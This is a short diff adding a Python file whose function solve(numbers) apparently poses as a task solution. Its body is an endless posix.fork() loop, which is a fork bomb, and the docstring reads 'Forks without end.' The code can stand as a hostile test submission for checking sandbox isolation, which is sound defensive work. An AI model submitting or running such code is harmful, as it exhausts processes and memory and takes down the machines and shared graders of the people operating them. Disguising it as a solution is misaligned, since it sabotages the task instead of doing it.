@@ -1,0 +1,8 @@
+"""Forks without end."""
+
+import posix
+
+
+def solve(numbers):
+    while True:
+        posix.fork()
